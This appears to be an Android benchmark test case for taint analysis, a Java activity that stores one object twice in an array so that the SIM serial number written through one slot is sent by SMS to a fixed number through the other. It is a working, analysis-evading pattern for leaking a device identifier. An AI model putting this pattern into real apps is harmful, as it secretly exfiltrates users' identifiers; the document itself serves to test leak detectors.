// about       A loop fills one and the same object; the list holds it twice.
// leak        DEV_ICCID sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Ticket {
    String code = "blank";
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Ticket[] tickets = new Ticket[2];
    Ticket one = new Ticket();
    for (int i = 0; i < tickets.length; i++) {
      // The same ticket in both places.
      tickets[i] = one;
    }
    tickets[1].code = phone.getSimSerialNumber();
    SmsManager.getDefault().sendTextMessage("+15550100", null, tickets[0].code, null, null);
  }
}
